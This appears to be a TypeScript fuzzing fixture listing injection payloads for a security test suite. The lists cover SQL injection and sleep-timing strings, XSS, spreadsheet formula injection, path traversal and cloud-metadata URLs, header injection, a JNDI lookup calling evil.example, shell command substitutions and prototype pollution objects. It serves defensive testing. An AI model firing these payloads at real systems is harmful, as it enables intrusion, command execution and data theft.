import type { Random } from "#seed/random.ts";

/** JSON text, not a value: what no serialiser would write is sent too. */
export type JsonText = string;

const text = (value: string): JsonText => JSON.stringify(value);
const deep = (depth: number): JsonText => `${"[".repeat(depth)}${"]".repeat(depth)}`;
const deepObject = (depth: number): JsonText => `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`;

/** The families of security goal G9; each list is tried on every field of every call. */
const families: Readonly<Record<string, readonly JsonText[]>> = {
  types: ["null", "true", "false", "0", "1", '""', "[]", "{}", "[null]", "[[1]]", '{"length":5}'],
  objects: [
    '{"__proto__":{"polluted":true}}',
    '{"constructor":{"prototype":{"polluted":true}}}',
    '{"toString":1}',
    '{"then":1}',
    '{"$ne":null}',
    '[1,"1",null]',
  ],
  deep: [deep(50), deep(5_000), deep(31_000), deepObject(3_000)],
  huge: [
    text("x".repeat(201)),
    text("é".repeat(5_000)),
    text("x".repeat(50_000)),
    text("x".repeat(70_000)),
    text("1".repeat(400)),
    `[${"1,".repeat(9_000)}1]`,
  ],
  numbers: [
    "-1",
    "-0",
    "0.1",
    "1e3",
    "1e21",
    "1e308",
    "1e309",
    "-1e309",
    "5e-324",
    "2147483647",
    "2147483648",
    "-2147483648",
    "-2147483649",
    "9007199254740991",
    "9007199254740993",
    "-9007199254740993",
    "92233720368547758.07",
    "9223372036854775808",
    "1000000000000",
    "0.005",
    text("NaN"),
    text("Infinity"),
    text("0x10"),
    text("1e5"),
    text("９"),
    text("٣"),
    text(" 1 "),
    text("1.0"),
    text("-1"),
    text("2147483648"),
    text("99999999999999999999"),
    text("1,2,,3,"),
  ],
  control: [
    text("\u0000"),
    text("a\u0000b"),
    text("\u0001\u001b[31m\u007f"),
    text("line\r\nbreak"),
    text("\t"),
    text("\ufeffx"),
    '"\\ud800"',
    '"x\\udfff\\ud800y"',
    '"\\u0000"',
  ],
  unicode: [
    text("\u202egpj.exe"),
    text("\u200b\u200d\u2060"),
    text("👩‍👩‍👧‍👦".repeat(10)),
    text("Z͑ͫ̓a̴l̷g̸o".repeat(10)),
    text("ﷺ".repeat(20)),
    text("İıſß"),
    text("𝕊𝕊ℕ"),
    text("'＇ʼ"),
    text("\ufffe\uffff"),
  ],
  sql: [
    text("'"),
    text("';drop table reward;--"),
    text("' or '1'='1"),
    text('" or ""="'),
    text("1; select pg_sleep(5)"),
    text("1' and 1=(select count(*) from pg_sleep(5))--"),
    text("$$;--"),
    text("\\"),
    text("\\'"),
    text("%"),
    text("_%_%_%"),
    text("%".repeat(150)),
    text("{1,2}"),
    text("$1"),
    text("/**/union/**/select/**/null,version()"),
    text("E'\\x27'"),
    text("id desc; --"),
  ],
  html: [
    text("<script>alert(1)</script>"),
    text("<img src=x onerror=alert(1)>"),
    text("<svg/onload=alert(1)>"),
    text('"><iframe srcdoc="<script>alert(1)</script>">'),
    text("javascript:alert(1)"),
    text("{{7*7}}\u0024{7*7}<%=7*7%>"),
    text("<!--<script>"),
    text("&lt;script&gt;"),
  ],
  formula: [
    text("=1+1"),
    text("=cmd|'/C calc'!A0"),
    text("+1"),
    text("-1+1"),
    text("@SUM(1)"),
    text("\t=1"),
    text('=HYPERLINK("http://evil.example")'),
  ],
  path: [
    text("../../../../etc/passwd"),
    text("..\\..\\windows\\win.ini"),
    text("%2e%2e%2f%2e%2e%2f"),
    text("/dev/null"),
    text("file:///etc/passwd"),
    text("http://169.254.169.254/latest"),
    text("a\u0000.pdf"),
    text("con"),
  ],
  header: [
    text("x\r\nSet-Cookie: a=b"),
    text("x\nBcc: other@example.test"),
    text("a@b.example\r\nRCPT TO:<c@d.example>"),
    text("%0d%0aLocation:%20//evil.example"),
  ],
  dates: [
    text("0000-00-00"),
    text("2026-02-30"),
    text("9999-12-31"),
    text("10000-01-01"),
    text("0001-01-01"),
    text("-000001-01-01"),
    text("+275760-09-13"),
    text("2026-06-31T25:61:61Z"),
    text("2026-12-31T23:59:60Z"),
    text("2024-02-29"),
    text("infinity"),
    text("now"),
    text("31/02/2026"),
  ],
  logic: [
    text("\u0024{jndi:ldap://evil.example/a}"),
    text("`id`"),
    text("$(id)"),
    text("|id"),
    text("*"),
  ],
};

export const payloads: readonly JsonText[] = Object.values(families).flat();

// Letters that mean something to somebody: SQL, HTML, JSON, shells, spreadsheets, terminals.
const letters = [
  ..."'\"\\<>&%_;:-+=@|`$(){}[]*?!#~^,./ \t\r\n0129aZ\u0000\u0007\u001b\u007fé漢\u202e👻",
];

/** A payload that stands on no list. */
export function randomPayload(random: Random): JsonText {
  const kind = random.whole({ from: 0, to: 9 });
  if (kind < 5) {
    const length = random.pick([1, 2, 5, 9, 20, 40, 99, 100, 101, 200, 255, 1_000]);
    return text(Array.from({ length }, () => random.pick(letters)).join(""));
  }
  if (kind < 7) return String((random.share() - 0.5) * 10 ** random.whole({ from: 0, to: 25 }));
  if (kind < 8)
    return text(
      String(Math.round((random.share() - 0.5) * 10 ** random.whole({ from: 0, to: 20 }))),
    );
  const parts = Array.from({ length: random.whole({ from: 0, to: 4 }) }, () =>
    random.pick(payloads),
  );
  return kind === 8
    ? `[${parts.filter((part) => part.length < 5_000).join(",")}]`
    : `{${parts
        .filter((part) => part.length < 5_000)
        .map((part, index) => `"k${index}":${part}`)
        .join(",")}}`;
}
